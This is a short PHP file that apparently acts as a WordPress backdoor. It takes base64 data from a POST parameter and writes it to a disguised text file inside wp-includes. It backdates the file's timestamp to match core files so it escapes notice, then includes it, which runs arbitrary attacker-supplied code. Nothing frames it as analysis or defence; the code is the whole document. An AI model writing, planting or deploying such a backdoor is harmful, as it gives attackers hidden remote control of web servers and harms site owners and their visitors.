<?php
// planted as a text file dated like the core, then run by include
$t = __DIR__ . '/wp-includes/css/dist/block.txt';
file_put_contents($t, base64_decode($_POST['blob']));
touch($t, filemtime(__DIR__ . '/wp-includes/version.php'));
include $t;
